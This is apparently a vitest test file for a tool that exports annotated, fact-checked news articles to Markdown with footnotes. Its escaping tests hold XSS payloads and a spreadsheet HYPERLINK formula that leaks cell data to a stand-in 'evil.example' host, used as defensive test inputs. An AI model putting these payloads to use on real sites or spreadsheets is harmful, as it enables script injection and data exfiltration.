import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { englishInput } from "./__fixtures__/english-article";
import { OPTIONS, buildArticle, p, t, annotate } from "./__fixtures__/build-fixture";
import { frenchInput } from "./__fixtures__/french-article";
import { escapeMarkdown } from "./escape-markdown";
import { escapeMarkdownLineStarts } from "./markdown-line-starts";
import { toMarkdown } from "./to-markdown";

const md = toMarkdown(frenchInput);
const rendered = (source: string) => marked.parse(source, { async: false, gfm: true });

describe("Markdown escaping", () => {
  it("escapes inline syntax anywhere", () => {
    expect(escapeMarkdown("*a* _b_ [c](d) <e> `f` a|b ~~g~~ \\ &amp;")).toBe(
      "\\*a\\* \\_b\\_ \\[c\\](d) \\<e\\> \\`f\\` a\\|b \\~\\~g\\~\\~ \\\\ \\&amp;",
    );
  });

  it("escapes block syntax at the start of a line only", () => {
    expect(escapeMarkdownLineStarts("# titre\n- 15 902\n1. premier\n> cité\n===\n280.000 soldats\n#hashtag\n-5 %")).toBe(
      "\\# titre\n\\- 15 902\n1\\. premier\n\\> cité\n\\===\n280.000 soldats\n#hashtag\n-5 %",
    );
  });

  it("keeps an article's words as words once rendered", () => {
    const article = buildArticle({
      id: "art-md",
      title: "# 1. <b>Titre</b> *piégé*",
      url: null,
      outlet: null,
      author: null,
      language: "fr",
      publishedAt: null,
      blocks: [p(t("1. Selon *l’Insee*, 87 % des [ménages] <i>paient</i> l’impôt_sur_le_revenu & plus")), p(t("- six millions"))],
    });
    const input = { article, annotations: [annotate(article, { id: "n1", quote: "87 %" })], comments: {}, options: OPTIONS };
    const html = rendered(toMarkdown(input));
    expect(html).toContain("<h1># 1. &lt;b&gt;Titre&lt;/b&gt; *piégé*</h1>");
    expect(html).toContain("<p>1. Selon *l’Insee*, 87 %[^1] des [ménages] &lt;i&gt;paient&lt;/i&gt; l’impôt_sur_le_revenu &amp; plus</p>");
    expect(html).toContain("<p>- six millions</p>");
    const body = html.split("<hr>")[0];
    expect(body).not.toMatch(/<(ol|ul|li|b|i|em|strong|a)\b/);
  });
});

describe("Markdown export", () => {
  it("renders the article with its headings, lists, quote, emphasis and links", () => {
    expect(md).toContain("# 🇷🇺 Guerre en Ukraine : Moscou aurait perdu 280.000 soldats, selon Londres\n");
    expect(md).toContain("### Des pertes difficiles à vérifier");
    expect(md).toContain("- 87\u00a0%[^7] des Russes");
    expect(md).toContain("> « Nous ne publierons pas nos pertes[^9] », a déclaré");
    expect(md).toContain("[rapport du ministère britannique de la Défense](https://www.gov.uk/government/news/defence-intelligence-update)\\\nMise à jour");
    expect(md).toContain("*cité par l’agence TASS[^6]*");
    const english = toMarkdown(englishInput);
    expect(english).toContain("3. Six million[^3] Ukrainians have fled abroad.\n4. 87% of respondents");
    expect(english).toContain("Read the [full briefing](https://www.gov.uk/government/news/briefing) and the leaked memo.");
  });

  it("puts a footnote reference after each annotated span, nested ones included", () => {
    expect(md).toContain("près de **280.000 soldats[^2]** depuis le début de l’invasion, selon les services britanniques[^1][^3]. 👍🏽");
    expect(md).toContain("avoir « neutralisé » 15\u202f902 soldats[^4] ukrainiens en un mois[^5]");
    const html = rendered(md);
    expect(html).toContain("<strong>280.000 soldats[^2]</strong>");
  });

  it("ends with footnotes giving kind, verdict, status, rationale and evidence", () => {
    expect(md).toContain(
      "[^2]: **Chiffre** · Trompeur · En relecture — «\u00a0280.000 soldats\u00a0»\\\n" +
        "    Explication\u00a0: 280.000 désigne les pertes (tués et blessés), pas les morts.\\\n" +
        "    Attribué à\u00a0: «\u00a0selon les services britanniques\u00a0»\\\n" +
        "    Preuves\u00a0: [Pertes humaines — Wikipédia](https://fr.wikipedia.org/wiki/Pertes_humaines_de_la_guerre_russo-ukrainienne) ; " +
        "[https://www.bbc.com/afrique/monde-64000000](https://www.bbc.com/afrique/monde-64000000)\n",
    );
    expect(md).toContain("    Validé par Karim Benali le 3 mars 2025");
  });

  it("lists the orphan apart: a footnote nobody references would not be shown", () => {
    expect(md).toContain("## Annotations détachées");
    expect(md).toContain("- \\[10\\] **Affirmation** · Faux · En relecture — «\u00a0Le président russe a démenti ces chiffres dimanche\u00a0»");
    expect(md).not.toContain("[^10]");
  });

  it("escapes hostile text and never links an unsafe URL", () => {
    expect(md).toContain("\\<script\\>alert(\"rationale\")\\</script\\>");
    expect(md).toContain("\\<img src=x onerror=alert(1)\\>");
    expect(md).not.toContain("javascript:");
    expect(rendered(md)).not.toMatch(/<script|<img/);
  });

  it("carries the rationale but the internal note only when asked", () => {
    expect(md).not.toContain("ne pas publier");
    expect(md).not.toContain("HYPERLINK");
    const withNotes = toMarkdown({ ...frenchInput, options: { ...frenchInput.options, includeNotes: true } });
    expect(withNotes).toContain("Note interne\u00a0: Demander à Londres la méthode de comptage — ne pas publier.");
    expect(withNotes).toContain('=HYPERLINK("https://evil.example/?leak="\\&A1;"clic")');
    expect(withNotes).not.toContain("réponse attendue lundi");
  });
});
